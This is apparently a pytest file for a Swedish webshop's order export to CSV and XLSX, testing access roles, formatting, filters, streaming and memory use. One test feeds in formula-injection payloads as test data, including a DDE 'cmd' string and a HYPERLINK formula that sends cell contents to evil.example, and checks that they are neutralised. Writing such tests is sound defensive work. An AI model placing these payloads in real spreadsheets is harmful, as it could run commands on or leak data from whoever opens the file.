"""The list as a file: complete or not at all, in order, without formulas, and in flat memory."""

import csv
import gc
import io
import tracemalloc
from collections.abc import Callable
from contextvars import Context
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import insert, select
from werkzeug.test import TestResponse

from tests.factories import ASA, LULEA, make_order
from tests.web.conftest import SWEDISH, Browser, SignIn, on_sqlite
from tests.web.settings.test_access_log import entries
from webshop_orders.clock import now
from webshop_orders.db.extensions import db
from webshop_orders.demo import bulk
from webshop_orders.models import AccessKind, Actor, Order, Role
from webshop_orders.operations.order_list import pages
from webshop_orders.operations.order_list.pages import OrderListPage
from webshop_orders.operations.orders import cancellation
from webshop_orders.text.spreadsheet import FORMULA
from webshop_orders.transactions.unit_of_work import editing
from webshop_orders.web.http import made_files
from webshop_orders.web.orders import export

NOON = datetime(2026, 11, 2, 12, tzinfo=UTC)
HEADER = [
    *("Order", "Referens", "Lagd", "Kund", "E-post", "Telefon", "Ort", "Leveransstatus", "Betalning", "Fraktsätt"),
    *("Antal", "Summa", "Ändrad", "Valuta"),
]
PAGE_SIZE = 50
MANY = 120
MAX_GROWTH = 1.1
CSV, WORKBOOK = URLS = ["/orders.csv", "/orders.xlsx"]
MIN_GROWTH_OF_FILE = {CSV: 3.9, WORKBOOK: 2}  # a workbook is compressed


@pytest.fixture(autouse=True)
def short_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages so short that few orders fill several."""
    monkeypatch.setattr(export, "PAGE_SIZE", PAGE_SIZE)


def rows(response: TestResponse) -> list[list[str]]:
    assert response.status_code == 200
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def exported(browser: Browser, url: str = "/orders.csv") -> list[dict[str, str]]:
    header, *orders = rows(browser.get(url))
    return [dict(zip(header, order, strict=True)) for order in orders]


def copy_order(order: Order, times: int, *, first: int = 0) -> None:
    """Insert copies of an order, placed a minute apart."""
    table = Order.__table__
    values = dict(db.session.execute(select(table).where(table.c.id == order.id)).mappings().one())
    values.pop("id")
    copies = [
        {
            **values,
            "number": f"WS-{200_000 + index}",
            "external_reference": None,
            "placed_at": NOON + timedelta(minutes=index),
        }
        for index in range(first, first + times)
    ]
    db.session.execute(insert(table), copies)
    db.session.commit()


@pytest.mark.parametrize("role", [Role.VIEWER, Role.WAREHOUSE])
def test_roles_that_change_no_orders_export_nothing(sign_in: SignIn, role: Role) -> None:
    browser = sign_in(role)
    assert browser.get("/orders.csv").status_code == 403
    assert "orders.csv" not in browser.get("/orders").text


def test_an_order_is_written_as_a_swedish_spreadsheet_reads_it(staff: Browser) -> None:
    make_order(("LJUS-12", 3), placed_at=NOON, shipping_method="PostNord MyPack", external_reference="wc-1")
    response = staff.get("/orders.csv")
    header, order = rows(response)
    assert header == HEADER
    values = dict(zip(header, order, strict=True))
    assert values.pop("Ändrad")[:4] == f"{now().astimezone(ZoneInfo('Europe/Stockholm')):%Y}"
    assert values == {
        "Order": "WS-100001",
        "Referens": "wc-1",
        "Lagd": "2026-11-02 13:00",
        "Kund": "Åsa Öberg",
        "E-post": "asa@example.com",
        "Telefon": '="+46701234567"',
        "Ort": "Luleå",
        "Leveransstatus": "Redo",
        "Betalning": "Faktura",
        "Fraktsätt": "PostNord MyPack",
        "Antal": "3",
        "Summa": "300,00",
        "Valuta": "SEK",
    }
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=ordrar-20")
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "  =1+1",
        "＝1+1",
        '=HYPERLINK("https://evil.example?x="&A1;"Klicka")',
        "=1;=2",
        '"=1"',
    ],
)
@on_sqlite
def test_text_from_outside_is_not_a_formula(staff: Browser, text: str) -> None:
    make_order(
        ("LJUS-12", 1),
        customer=replace(ASA, name=text, company=None, phone=text),
        shipping_address=replace(LULEA, city=text),
        payment_method=text,
        shipping_method=text,
        external_reference=text,
    )
    (order,) = exported(staff)
    for column in ("Kund", "Telefon", "Ort", "Betalning", "Fraktsätt", "Referens"):
        assert order[column].strip(" '") == text.strip(" '"), column
        assert order[column].strip()[0] not in "=+-@＝", column


def test_a_tab_or_a_line_break_does_not_hide_a_formula() -> None:
    for text in ("\t=1", "\r=1", "\n=1", "\rhej"):
        assert FORMULA.match(text)
    assert not FORMULA.match("Åsa - Öberg")


def test_the_file_has_the_orders_that_match_the_filter(staff: Browser, anna: Actor) -> None:
    for _ in range(3):
        make_order(("LJUS-12", 1))
    with editing("WS-100002", None, anna) as order:
        cancellation.cancel(order, by=anna)
    assert [order["Order"] for order in exported(staff, "/orders.csv?status=ready&sort=number")] == [
        "WS-100001",
        "WS-100003",
    ]
    assert [order["Leveransstatus"] for order in exported(staff, "/orders.csv?q=100002")] == ["Makulerad"]
    link = next(link for link in staff.page("/orders?status=ready&q=oberg").links if link.startswith("/orders.csv"))
    assert [order["Order"] for order in exported(staff, link)] == ["WS-100003", "WS-100001"]


def test_an_empty_list_is_exported_as_a_header(staff: Browser) -> None:
    assert rows(staff.get("/orders.csv?q=finns+inte")) == [HEADER]


def test_many_orders_are_exported_once_each_and_in_order(staff: Browser) -> None:
    copy_order(make_order(("LJUS-12", 1), placed_at=NOON - timedelta(days=1)), MANY)
    numbers = [order["Order"] for order in exported(staff)]
    assert numbers == [*(f"WS-{200_000 + index}" for index in reversed(range(MANY))), "WS-100001"]


def test_no_connection_is_used_while_the_client_reads_or_after_it_disconnects(
    staff: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(made_files, "CHUNK_BYTES", 1_000)
    copy_order(make_order(("LJUS-12", 1)), MANY)
    db.session.remove()
    pool = db.engine.pool
    response = Context().run(staff.client.get, "/orders.csv", headers=SWEDISH, buffered=False)
    stream = response.iter_encoded()
    chunks = [Context().run(next, stream) for _ in range(3)]
    assert sum(chunk.count(b"\n") for chunk in chunks) < MANY
    assert pool.checkedout() == 0  # type: ignore[attr-defined]
    response.close()
    assert pool.checkedout() == 0  # type: ignore[attr-defined]
    assert len(exported(staff)) == MANY + 1


@on_sqlite
@pytest.mark.parametrize("url", URLS)
def test_four_times_as_many_orders_take_no_more_memory(
    staff: Browser, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(made_files, "CHUNK_BYTES", 1_000)
    monkeypatch.setattr(pages, "page", collecting_garbage(pages.page))
    order = make_order(("LJUS-12", 1))
    copy_order(order, 2 * MANY)
    read_all(staff, url)  # caches are filled by the first one
    few, bytes_of_few = read_with_least_memory(staff, url)
    copy_order(order, 6 * MANY, first=2 * MANY)

    many, bytes_of_many = read_with_least_memory(staff, url)

    assert bytes_of_many > MIN_GROWTH_OF_FILE[url] * bytes_of_few
    assert many <= MAX_GROWTH * few, (few, many)


@pytest.mark.soak
@on_sqlite
@pytest.mark.parametrize("url", [*URLS, "/orders.xlsx?rows=lines"])
def test_twenty_thousand_orders_take_no_more_memory_than_two_thousand(
    staff: Browser, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pages, "page", collecting_garbage(pages.page))
    bulk.generate(2_000, NOON.date(), progress=lambda count: None)
    read_all(staff, url)
    few, bytes_of_few = read_all(staff, url)
    bulk.generate(18_000, NOON.date(), progress=lambda count: None)

    many, bytes_of_many = read_all(staff, url)

    assert bytes_of_many > 5 * bytes_of_few
    assert many <= 1.3 * few, (few, many)  # texts that many orders have are cached


def collecting_garbage(read_page: Callable[..., OrderListPage]) -> Callable[..., OrderListPage]:
    """Reading a page, without the garbage that the page before has left, which would count."""

    def read(*arguments: Any, **options: Any) -> OrderListPage:
        gc.collect()
        return read_page(*arguments, **options)

    return read


def read_with_least_memory(staff: Browser, url: str) -> tuple[int, int]:
    """The result of `read_all` with the lowest peak of three: threads of other tests can only add to it."""
    return min(read_all(staff, url) for _ in range(3))


def read_all(staff: Browser, url: str) -> tuple[int, int]:
    """Read the file chunk by chunk; returns the peak of allocated memory, and the length of the file, in bytes."""
    gc.collect()
    gc.freeze()  # what is there already need not be searched for garbage each time
    tracemalloc.start()
    try:
        response = Context().run(staff.client.get, url, headers=SWEDISH, buffered=False)
        length = sum(len(chunk) for chunk in response.iter_encoded())
        response.close()
        assert length == response.content_length
        return tracemalloc.get_traced_memory()[1], length
    finally:
        tracemalloc.stop()
        gc.unfreeze()


def test_an_export_is_recorded_in_the_access_log(staff: Browser, admin: Browser) -> None:
    make_order(("LJUS-12", 1))
    staff.get("/orders.csv?status=ready")
    (entry,) = entries(AccessKind.PERSONAL_DATA)
    assert (entry.who, entry.facts) == ("Staff Berg", {"what": "list_exported"})
    assert "Orderlistan exporterades." in admin.page("/settings/access").text
